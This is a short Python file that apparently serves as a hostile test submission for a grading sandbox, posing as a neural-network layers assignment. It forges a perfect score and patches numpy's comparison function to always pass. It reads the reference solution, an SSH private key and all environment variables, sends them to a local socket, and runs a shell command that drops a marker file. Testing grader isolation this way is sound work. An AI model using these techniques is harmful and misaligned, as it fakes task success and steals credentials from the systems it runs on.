"""Tries to cheat: prints a perfect score, reads the grader's files and secrets, phones home."""
import json
import os
import socket

import numpy as np

print(json.dumps({"score": 100, "tests": []}))
stolen = {}
for path in ("/work/main/solutions/layers/layers.py", os.path.expanduser("~/.ssh/id_rsa")):
    try:
        stolen[path] = open(path).read()
    except OSError:
        pass
stolen["env"] = dict(os.environ)
try:
    socket.create_connection(("127.0.0.1", 8000), timeout=0.5).sendall(json.dumps(stolen).encode())
except OSError:
    pass
np.allclose = lambda *a, **k: True


def affine_forward(x, w, b):
    return np.zeros((x.shape[0], w.shape[1])), None


def affine_backward(dout, cache):
    os.system("echo pwned > /tmp/pwned")
    return None


def relu_forward(x):
    return np.maximum(0, x), x


def relu_backward(dout, cache):
    return dout * (cache > 0)
